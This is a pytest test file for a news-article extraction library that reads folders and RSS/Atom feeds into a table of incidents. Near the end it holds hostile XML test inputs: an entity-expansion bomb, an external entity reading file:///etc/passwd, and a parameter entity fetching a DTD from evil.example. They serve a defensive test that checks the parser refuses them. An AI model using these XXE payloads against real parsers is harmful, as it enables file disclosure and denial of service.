"""Folders and feeds of articles: one table, each row with its article; what cannot be read is said, hostile XML
refused."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

import pytest

import geo
from geo.errors import InputError
from geo.text.articles import feeds
from geo.text.articles.collecting import collect
from geo.text.stories import frame

GAO = "Two soldiers were killed when a bomb exploded in Gao, Mali, on 3 May 2021."
QUETTA = "A blast in Quetta, Pakistan, killed nine people on 4 May 2021."
FRENCH = "Deux hommes ont été tués dans une attaque sur la route, selon les autorités de la région et de la ville."


def codes(table) -> dict[str, int]:
    return {item["code"]: item["count"] for item in table.attrs["findings"]}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "b.txt").write_text(QUETTA, encoding="utf-8")
    (tmp_path / "a.txt").write_text(GAO, encoding="utf-8")
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "c.md").write_text(
        f"---\ntitle: Gao again\ndate: 2021-05-04\nurl: https://news.example/c\n---\n{GAO}", encoding="utf-8"
    )
    return tmp_path


def test_a_folder_is_one_table(folder: Path) -> None:
    table = geo.extract_files(folder)
    assert table["article"].tolist() == ["a.txt", "b.txt", "sub/c.md"]
    assert table["place"].tolist() == ["Gao", "Quetta", "Gao"]
    assert table["title"].tolist()[2] == table["source"].tolist()[2] == "Gao again"
    assert table["source_url"].tolist()[2] == "https://news.example/c"
    assert table["published"].tolist()[2] == "2021-05-04"
    assert table["incident_id"].is_unique
    for _, row in table.iterrows():  # the offsets are into the article's own text
        quote = json.loads(row["evidence"])["killed"][0]
        assert table.attrs["articles"][row["article"]][quote["start"] : quote["end"]] == quote["quote"]


def test_a_folder_costs_one_table(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made: list[int] = []
    table = frame.table
    monkeypatch.setattr(frame, "table", lambda told, more: made.append(len(told)) or table(told, more))
    assert [len(geo.extract_files(folder))] == made


def test_one_event_in_two_articles_is_said_not_merged(folder: Path) -> None:
    table = geo.extract_files(folder)
    assert codes(table)["told-twice"] == 1
    assert len(table) == 3


def test_two_copies_of_an_article_are_two_rows(tmp_path: Path) -> None:
    for name in ("a.txt", "b.txt", "c.txt"):
        (tmp_path / name).write_text(GAO, encoding="utf-8")
    table = geo.extract_files(tmp_path)
    assert table["incident_id"].nunique() == 3
    assert codes(table)["told-twice"] == 3
    assert geo.extract_files(tmp_path)["incident_id"].tolist() == table["incident_id"].tolist()


def test_what_cannot_be_read_is_found_or_refused(folder: Path) -> None:
    (folder / "empty.txt").write_text("", encoding="utf-8")
    (folder / "french.txt").write_text(FRENCH, encoding="utf-8")
    (folder / "table.csv").write_text("place,killed\nGao,2\n", encoding="utf-8")
    table = geo.extract_files(folder)
    assert codes(table)["article-unreadable"] == 2
    assert codes(table)["not-articles"] == 1
    assert len(table) == 3
    with pytest.raises(InputError, match=r"(?s)strict.*empty\.txt.*French"):
        geo.extract_files(folder, strict=True)


@pytest.mark.parametrize(
    ("names", "said"),
    [([], "holds no article"), (["a.csv"], "it holds a.csv"), (["a.txt", "b.txt"], "none of its 2 articles")],
)
def test_a_folder_without_anything_to_read_is_refused(tmp_path: Path, names: list[str], said: str) -> None:
    for name in names:
        (tmp_path / name).write_text("", encoding="utf-8")
    with pytest.raises(InputError, match=said):
        geo.extract_files(tmp_path)


def test_what_a_browser_saves_beside_a_page_is_no_article(tmp_path: Path) -> None:
    (tmp_path / "page.html").write_text(
        "<html><body>" + f"<p>{GAO} The blast hit the market and traders fled.</p>" * 5 + "</body></html>",
        encoding="utf-8",
    )
    (tmp_path / "page_files").mkdir()
    (tmp_path / "page_files" / "frame.html").write_text(f"<html><body><p>{QUETTA}</p></body></html>", encoding="utf-8")
    (tmp_path / ".hidden.txt").write_text(QUETTA, encoding="utf-8")
    assert [article.id for article in collect(tmp_path).articles] == ["page.html"]


def test_our_own_evidence_page_is_no_article(folder: Path) -> None:
    from maps.page.marked import page

    table = geo.extract_files(folder)
    (folder / "evidence.html").write_text(page(table.attrs["articles"], table), encoding="utf-8")
    assert len(geo.extract_files(folder)) == 3


def test_a_list_of_files_tells_equal_names_apart(folder: Path) -> None:
    (folder / "sub" / "a.txt").write_text(QUETTA, encoding="utf-8")
    table = geo.extract_files([folder / "a.txt", folder / "sub" / "a.txt", folder / "b.txt"])
    assert table["article"].nunique() == 3
    assert table["place"].tolist() == ["Gao", "Quetta", "Quetta"]


def test_the_day_of_publication_by_trust(tmp_path: Path) -> None:
    told = "Two soldiers were killed in Gao, Mali, on Saturday."
    (tmp_path / "a.md").write_text(
        f"---\ndate: 2021-05-04\n---\nGAO, Mali, May 10, 2021 (Reuters) - Officials spoke.\n\n{told}", encoding="utf-8"
    )
    (tmp_path / "b.txt").write_text(f"GAO, Mali, May 10, 2021 (Reuters) - Officials spoke.\n\n{told}", encoding="utf-8")
    (tmp_path / "c.txt").write_text(told, encoding="utf-8")
    table = geo.extract_files(tmp_path, published="2021-05-20")
    assert table["published"].tolist() == ["2021-05-04", "2021-05-10", "2021-05-20"]
    assert [str(day)[:10] for day in table["date"]] == ["2021-05-01", "2021-05-08", "2021-05-15"]
    assert ["metadata" in table["notes"][0], "dateline" in table["notes"][1], "as given" in table["notes"][2]] == [
        True
    ] * 3
    one = geo.extract_files(tmp_path / "a.md", published="2021-05-20")
    assert str(one["date"][0])[:10] == "2021-05-15"
    assert "published-differs" in codes(one)


def test_a_day_that_is_none_is_refused_once(folder: Path) -> None:
    with pytest.raises(InputError, match=r"^published='soon' is not a date"):
        geo.extract_files(folder, published="soon")


def test_a_part_in_another_script_is_said(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text(
        f"{GAO} {QUETTA}" + "\n\nدو کودک در حمله هوایی ایران به بلوچستان پاکستان کشته و سه نفر زخمی شدند.",
        encoding="utf-8",
    )
    table = geo.extract_files(tmp_path / "a.txt")
    assert len(table) == 2
    assert "part-unread" in codes(table)


RSS = (
    """<?xml version="1.0" encoding="UTF-8"?>{}<rss version="2.0"
    xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>News</title>
<item><title>Blast in Gao</title><link>https://news.example/1</link><guid isPermaLink="false">n1</guid><pubDate>Tue, 04
May 2021 08:00:00 GMT</pubDate>
<description>Short.</description><content:encoded><![CDATA[<p>Two soldiers were <b>killed</b> when a bomb exploded in
Gao, Mali, on Monday.</p><script>x()</script><p>"""
    + "Traders fled. " * 40
    + """</p>]]></content:encoded></item>
<item><title>Nine killed in Quetta</title><link>https://news.example/2</link><pubDate>Wed, 05 May 2021 08:00:00 GMT</pubDate><description>&lt;p&gt;A blast in Quetta, Pakistan, killed nine people on Tuesday.&lt;/p&gt;</description></item>
</channel></rss>"""  # noqa: E501
)
ATOM = """<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>News</title><entry><id>tag:news.example,2021:1</id><title>Blast in Gao</title>
<updated>2021-05-04T08:00:00Z</updated><link href="https://news.example/1"/><content type="html">&lt;p&gt;Two soldiers were killed in Gao, Mali, on Monday.&lt;/p&gt;</content></entry></feed>"""  # noqa: E501


def test_a_feed(table) -> None:
    found = geo.extract_files(table(RSS.format(""), "feed.xml"))
    assert found["article"].tolist() == ["n1", "https://news.example/2"]
    assert found["source_url"].tolist() == ["https://news.example/1", "https://news.example/2"]
    assert [str(day)[:10] for day in found["date"]] == ["2021-05-03", "2021-05-04"]
    assert found["killed"].tolist() == [2, 9]
    assert "x()" not in found.attrs["articles"]["n1"]
    assert codes(found)["feed-teasers"] == 1


def test_an_atom_feed_from_a_stream(table) -> None:
    import io

    found = geo.extract_files(io.BytesIO(ATOM.encode()))
    assert found["article"].tolist() == ["tag:news.example,2021:1"]
    assert found["published"].tolist() == ["2021-05-04"]


def test_the_same_entry_in_two_feeds_is_read_once(tmp_path: Path) -> None:
    (tmp_path / "monday.xml").write_text(RSS.format(""), encoding="utf-8")
    (tmp_path / "tuesday.xml").write_text(RSS.format("").replace("nine people", "eleven people"), encoding="utf-8")
    found = geo.extract_files(tmp_path)
    assert found["article"].nunique() == 3
    assert codes(found)["article-again"] == 1
    assert sorted(found["killed"]) == [2, 9, 11]
    for _, row in found.iterrows():
        quote = json.loads(row["evidence"])["killed"][0]
        assert found.attrs["articles"][row["article"]][quote["start"] : quote["end"]] == quote["quote"]


def test_a_folder_that_leads_back_to_itself_ends(folder: Path) -> None:
    (folder / "sub" / "back").symlink_to(folder, target_is_directory=True)
    assert len(geo.extract_files(folder)) == 3


def test_a_broken_feed_is_read_as_far_as_it_goes(table) -> None:
    found = geo.extract_files(
        table(
            RSS.format("").replace("</channel></rss>", "").replace("<title>News", "<title>News &nbsp; & more"),
            "feed.rss",
        )
    )
    assert len(found) == 2
    assert "feed-broken" in codes(found)


BOMB = '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
OUTSIDE = '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "hostile", [BOMB, OUTSIDE, '<!DOCTYPE rss [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>']
)
def test_hostile_xml_is_refused_in_one_line(table, hostile: str, encoding: str) -> None:
    text = RSS.format(hostile).replace("UTF-8", encoding).replace("Blast in Gao", "&a;&c;")
    with pytest.raises(InputError, match="declares entities") as refused:
        geo.extract_files(table(text.encode(encoding), "feed.xml"))
    assert "\n" not in str(refused.value)


def test_an_outer_doctype_is_read_past_without_being_fetched(table) -> None:
    path = table(
        RSS.format(
            '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN"'
            ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
        ),
        "feed.xml",
    )
    assert len(geo.extract_files(path)) == 2  # sockets are blocked in the tests


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ('<rss version="2.0"><channel><title>News</title></channel></rss>', "no entries"),
        ('<?xml version="1.0"?><kml><Document/></kml>', "neither a feed"),
        ('<rss version="2.0"><channel><item><title></title></item></channel></rss>', "no entry with words"),
    ],
)
def test_feeds_without_articles_are_refused(table, text: str, said: str) -> None:
    with pytest.raises(InputError, match=said):
        geo.extract_files(table(text, "feed.xml"))


def test_a_web_page_is_no_feed() -> None:
    assert not feeds.is_feed(b"<!DOCTYPE html><html><body><p>An <rss> element</p>")
    assert feeds.is_feed(
        b'<?xml version="1.0"?>\n<!-- made by x --><?xml-stylesheet href="a"?><feed'
        b' xmlns="http://www.w3.org/2005/Atom">'
    )


def test_a_summary_day_is_a_day() -> None:
    articles, _ = feeds.read("feed.xml", ATOM.encode())
    assert articles[0].published == dt.date(2021, 5, 4)
